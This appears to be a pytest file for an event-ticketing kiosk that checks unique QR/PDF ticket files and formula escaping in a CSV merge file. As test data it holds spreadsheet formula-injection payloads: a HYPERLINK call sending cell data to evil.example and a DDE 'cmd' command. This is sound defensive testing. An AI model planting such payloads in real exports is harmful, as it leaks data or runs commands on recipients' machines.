"""Tickets for mailing: every guest's QR file holds their own code, and tickets.csv points at it."""

import csv
from pathlib import Path

import zxingcpp
from PIL import Image

from kiosk.attendees.importer import import_attendees
from kiosk.event.folder import Event, open_event
from kiosk.tickets.files import MERGE_COLUMNS, write_tickets
from tests.conftest import write_event

CODES = ("2026/1001", "20261001", "2026-1001", "2026.1001", "SRS26~ABC", "SRS26ABC", "srs26+abc")


def event_with_codes(tmp_path: Path, codes: tuple[str, ...], organisations: tuple[str, ...] = ()) -> Event:
    folder = write_event(tmp_path / "event")
    lines = ["Vorname;Nachname;Organisation;E-Mail;Kategorie;Ticket-Code;Status"]
    for number, code in enumerate(codes):
        organisation = organisations[number] if number < len(organisations) else "Stadt Fulda"
        lines.append(f"Gast{number};Test;{organisation};g{number}@example.org;Teilnehmende;{code};bezahlt")
    (tmp_path / "list.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    event = open_event(folder, kiosk_id="kiosk-1")
    import_attendees(event, tmp_path / "list.csv")
    return event


def read_merge_file(folder: Path) -> list[dict[str, str]]:
    with (folder / "tickets.csv").open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle, delimiter=";"))


def test_codes_that_sanitise_alike_get_their_own_files(tmp_path: Path) -> None:
    event = event_with_codes(tmp_path, CODES)
    try:
        stored = {r["code"] for r in event.store.rows("SELECT code FROM attendees")}
        assert write_tickets(event, tmp_path / "t", pdf=True) == len(CODES)
    finally:
        event.close()
    rows = read_merge_file(tmp_path / "t")
    assert {row["code"] for row in rows} == stored and len(stored) == len(CODES)
    assert len({row["qr_file"] for row in rows}) == len(CODES)
    for row in rows:
        decoded = zxingcpp.read_barcodes(Image.open(tmp_path / "t" / row["qr_file"]))
        assert [d.text for d in decoded] == [row["code"]]
        assert (tmp_path / "t" / row["qr_file"]).with_suffix(".pdf").exists()
    assert len(list((tmp_path / "t").glob("*.png"))) == len(list((tmp_path / "t").glob("*.pdf"))) == len(CODES)


def test_merge_file_defuses_formulas(tmp_path: Path) -> None:
    organisations = ('=HYPERLINK("http://evil.example/?"&A2,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)",
                     "+49 661 123", "-2+3")
    event = event_with_codes(tmp_path, ("AAAA1111", "BBBB2222", "CCCC3333", "DDDD4444", "EEEE5555"), organisations)
    try:
        write_tickets(event, tmp_path / "t")
    finally:
        event.close()
    rows = read_merge_file(tmp_path / "t")
    assert list(rows[0]) == list(MERGE_COLUMNS)
    assert sorted(row["organisation"] for row in rows) == sorted("'" + o for o in organisations)
